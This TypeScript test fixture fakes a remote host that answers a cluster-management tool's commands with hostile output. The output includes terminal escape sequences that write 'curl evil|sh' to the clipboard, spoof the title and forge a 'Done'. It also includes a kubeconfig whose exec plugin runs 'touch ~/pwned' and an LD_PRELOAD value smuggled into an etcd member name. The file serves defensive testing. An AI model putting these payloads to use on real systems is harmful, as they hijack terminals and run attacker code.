import {hostScript} from '../../../src/io/remote/host-script.js';
import {quote} from '../../../src/io/transport/quote.js';
import {TEMPLATES} from '../../support/rendering.js';
import type {Answer, Behaviour} from './server.js';

/** Writes the clipboard, sets the title, clears the screen, hides text, turns its direction, and pretends to be a result. */
const ESCAPES =
  '\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b]0;all is well\u0007\u001b[2J\u001b[H\u001b[8m\u009b2J\u009d0;x\u009c\u202e\u2028\u0085\rDone\u0000\u0008\u007f';

const LINES = Array.from({length: 20}, (_, at) => `${ESCAPES}\t${ESCAPES} ${at}`).join('\n');

/** The first command on a connection is answered as by root and sh; else no other would be sent. */
const welcoming =
  (then: Behaviour): Behaviour =>
  (commandLine, input) => {
    const [, second, first] = /'quorate' '([0-9a-f]{16})' '([0-9a-f]{16})'$/.exec(commandLine) ?? [];
    return first === undefined ? then(commandLine, input) : answer(`${first}${second} 0:# quorate:`);
  };

const answer = (stdout: string, stderr = '', code = 0): Answer => ({stdout, stderr, code});

const script = (...names: readonly string[]): string =>
  quote(['sh', '-c', hostScript(TEMPLATES, 'prelude', ...names), 'quorate']);

const READ = script('absent', 'read');
const LOCK_SHOW = script('lock', 'lock-show');
const LOCK_HOLD = script('lock', 'lock-hold');

/** A kubeconfig that runs a command as soon as kubectl uses it. */
const KUBECONFIG = JSON.stringify({
  apiVersion: 'v1',
  kind: 'Config',
  clusters: [{name: 'kubernetes', cluster: {server: 'https://10.0.0.66:6443', 'insecure-skip-tls-verify': true}}],
  users: [
    {
      name: 'kubernetes-admin',
      user: {exec: {apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', 'touch ~/pwned']}},
    },
  ],
  contexts: [{name: 'x', context: {cluster: 'kubernetes', user: 'kubernetes-admin'}}],
  'current-context': 'x',
});

const MEMBERS = JSON.stringify({
  members: [{ID: 77, name: `${ESCAPES}\nLD_PRELOAD=/tmp/x.so`, peerURLs: [`https://10.0.0.66:2380${ESCAPES}`]}],
}).replaceAll('\\u007f', '\u007f');

const ETCD = `== marker 0\nstate=member\nclusterId=${ESCAPES}\nmemberId=1\n== status 0\n[{"Status":{"header":{"cluster_id":5,"member_id":77,"revision":900,"raft_term":2},"version":"3.6.16${'\u009b'}","leader":77,"raftIndex":12}}]\n== members 0\n${MEMBERS}\n== read 1\nError: ${ESCAPES}\n== alarms 1\n${ESCAPES}\n== end 0\n`;

/** With what is asked of each command: its text, its JSON with events, or both. */
export const BEHAVIOURS: Readonly<Record<string, readonly [Behaviour, ...('text' | 'json')[]]>> = {
  'says escape sequences and succeeds': [welcoming(() => answer(LINES, LINES)), 'json'],
  'says escape sequences and fails': [
    welcoming(() => answer(`${LINES}\nproblem\tdisk-full\t${ESCAPES}\t${ESCAPES}`, `${LINES}\n${ESCAPES}`, 1)),
    'text',
    'json',
  ],
  'gives answers of the right form with escape sequences in them': [
    welcoming((commandLine, input) => {
      if (commandLine.startsWith(READ)) return answer(KUBECONFIG);
      if (commandLine.startsWith(LOCK_SHOW)) return answer(`${Array.from({length: 8}, () => ESCAPES).join('\t')}\n`);
      if (commandLine.startsWith(LOCK_HOLD)) return answer(`held\t${ESCAPES}\t${ESCAPES}\n`, ESCAPES, 75);
      if (commandLine === quote(['sh', '-s'])) return answer(ETCD);
      const boundary = /^== [0-9a-f]{24}$/m.exec(input)?.[0];
      if (boundary !== undefined) return answer(`${boundary} system\nuname\t${LINES}\n${boundary} end\n`, ESCAPES);
      return answer(JSON.stringify({kind: 'List', items: [{metadata: {name: ESCAPES}, message: LINES}]}), LINES);
    }),
    'text',
    'json',
  ],
  'does not run commands, and says escape sequences instead': [() => answer(LINES, LINES, 1), 'text'],
  'prints without end': [welcoming(() => 'endless'), 'text'],
  'prints without end instead of running anything': [() => 'endless', 'json'],
};
